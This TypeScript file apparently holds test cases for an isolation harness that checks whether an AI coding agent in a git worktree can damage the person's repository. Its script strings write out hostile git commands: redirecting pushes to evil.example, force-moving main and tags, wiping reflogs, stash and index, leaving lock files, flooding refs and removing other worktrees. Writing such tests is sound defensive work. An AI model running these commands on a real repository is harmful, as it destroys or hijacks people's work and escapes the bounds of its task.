import {appendFileSync, existsSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import type {GitAttack} from './attack.ts';
import {common, fails, unchanged} from './git-rows.ts';

/* What changes branches, tags, stashes, the index and the checkout of the person's repository. */

export const refAttacks: readonly GitAttack[] = [
	unchanged({
		id: 'git-instead-of',
		batch: 'refs',
		title: "send the person's pushes elsewhere",
		source: 'url.<base>.insteadOf',
		script: 'git config url.https://evil.example/.insteadOf https://good.example/',
		came: ({git}) => git('ls-remote', '--get-url', 'origin').includes('evil'),
		prepare: git => git('remote', 'add', 'origin', 'https://good.example/x'),
	}),
	unchanged({
		id: 'git-move-main',
		batch: 'refs',
		title: 'move main',
		source: 'refs are in the common folder',
		script:
			'git commit --quiet --allow-empty -m evil; git update-ref refs/heads/main HEAD; ' +
			`git branch --force main HEAD; ${common}; echo "$(git rev-parse HEAD) refs/heads/main" > "$c/packed-refs"; ` +
			'git push --force "$c" HEAD:main',
		came: ({git, before}) => git('rev-parse', 'main') !== before,
	}),
	unchanged({
		id: 'git-head-to-main',
		title: 'point HEAD at main and commit',
		source: 'HEAD of a worktree is a file',
		script:
			'git symbolic-ref HEAD refs/heads/main; git commit --quiet --allow-empty -m evil; ' +
			'printf "ref: refs/heads/main\\n" > "$(git rev-parse --git-path HEAD)"; ' +
			'git commit --quiet --allow-empty -m evil',
		came: ({git, before}) => git('rev-parse', 'main') !== before,
	}),
	unchanged({
		id: 'git-symbolic-main',
		title: "make main another name for the agent's branch",
		source: 'symbolic refs',
		script: 'git commit --quiet --allow-empty -m evil; git symbolic-ref refs/heads/main "$(git symbolic-ref HEAD)"',
		came: ({git, before}) => git('rev-parse', 'main') !== before,
	}),
	unchanged({
		id: 'git-delete-branch',
		batch: 'refs',
		title: 'delete another branch',
		source: 'agents that "tidy up" branches',
		script:
			'git branch --delete --force other; git update-ref -d refs/heads/other; ' +
			`${common}; rm -f "$c/refs/heads/other"`,
		came: ({git}) => !git('branch', '--list', 'other').includes('other'),
	}),
	unchanged({
		id: 'git-ref-to-blob',
		batch: 'refs',
		title: 'make another branch name a file',
		source: 'refs are files',
		script: `b=$(echo evil | git hash-object -w --stdin); ${common}; echo "$b" > "$c/refs/heads/other"`,
		came: ({git}) => fails(() => git('cat-file', '-e', 'other^{commit}')),
	}),
	unchanged({
		id: 'git-move-tag',
		batch: 'refs',
		title: 'move a tag',
		source: 'releases are built from tags',
		script: 'git commit --quiet --allow-empty -m evil; git tag --force v1',
		came: ({git, before}) => git('rev-parse', 'v1') !== before,
		prepare: git => git('tag', 'v1'),
	}),
	unchanged({
		id: 'git-packed-refs',
		title: 'empty packed-refs',
		source: 'most refs are lines of one file',
		script: `${common}; : > "$c/packed-refs"; rm -rf "$c"/refs/tags/* "$c"/refs/heads/other`,
		came: ({git}) => git('for-each-ref', 'refs/tags') === '',
		prepare: git => {
			git('tag', 'v1');
			git('pack-refs', '--all');
			return '';
		},
	}),
	unchanged({
		id: 'git-reflog',
		batch: 'refs',
		title: 'remove the record of where branches were',
		source: 'it is the way back',
		script: `${common}; git reflog expire --expire=now --all; rm -rf "$c/logs"`,
		came: ({git}) => git('reflog', 'show', 'main') === '',
	}),
	unchanged({
		id: 'git-stash',
		batch: 'refs',
		title: "drop the person's stash",
		source: 'a real worktree shares the stash with all',
		script: 'git stash clear; git update-ref -d refs/stash',
		came: ({git}) => git('stash', 'list') === '',
		prepare: (git, project) => {
			appendFileSync(path.join(project, 'a.txt'), 'unfinished work\n');
			git('stash');
		},
	}),
	unchanged({
		id: 'git-index',
		batch: 'refs',
		title: "replace the person's index",
		source: 'what the next commit takes',
		script:
			`${common}; rm -f "$c/index"; git read-tree --empty --index-output="$c/index" || ` +
			'GIT_INDEX_FILE="$c/index" git read-tree --empty',
		came: ({git}) => git('ls-files') === '',
	}),
	unchanged({
		id: 'git-person-head',
		batch: 'refs',
		title: 'have the person commit to another branch',
		source: 'HEAD of the checkout is a file',
		script: `${common}; echo "ref: refs/heads/other" > "$c/HEAD"`,
		came: ({git}) => git('symbolic-ref', 'HEAD') !== 'refs/heads/main',
	}),
	unchanged({
		id: 'git-exclude',
		batch: 'refs',
		title: "hide files from the person's status",
		source: 'info/exclude',
		script: `${common}; mkdir -p "$c/info"; echo '*' >> "$c/info/exclude"`,
		came: ({git, project}) => {
			writeFileSync(path.join(project, 'new.txt'), '');
			return git('status', '--short') === '';
		},
	}),
	unchanged({
		id: 'git-locks',
		batch: 'store',
		title: 'leave lock files, so that the person can no longer commit',
		source: 'a killed git leaves them, too',
		script:
			`${common}; ` +
			'touch "$c/index.lock" "$c/HEAD.lock" "$c/refs/heads/main.lock" "$c/packed-refs.lock" "$c/config.lock"',
		came: ({git}) => fails(() => git('commit', '--quiet', '--allow-empty', '--message=mine')),
	}),
	unchanged({
		id: 'git-many-refs',
		title: 'leave thousands of branches and tags',
		source: 'a flood of refs slows every command',
		script:
			'h=$(git rev-parse HEAD); ' +
			'for n in $(seq 1 400); do echo "create refs/tags/flood-$n $h"; done | git update-ref --stdin',
		came: ({git}) => git('for-each-ref').split('\n').length > 200,
	}),
	unchanged({
		id: 'git-other-worktree',
		batch: 'refs',
		title: 'remove another worktree',
		source: 'agents that "clean up" worktrees',
		script: `${common}; rm -rf "$c"/worktrees/beside; git worktree prune; git worktree remove --force ../beside`,
		came: ({project}) => !existsSync(path.join(project, '.git', 'worktrees', 'beside')),
		prepare: (git, project) => git('worktree', 'add', '--quiet', path.join(path.dirname(project), 'beside'), 'other'),
	}),
];
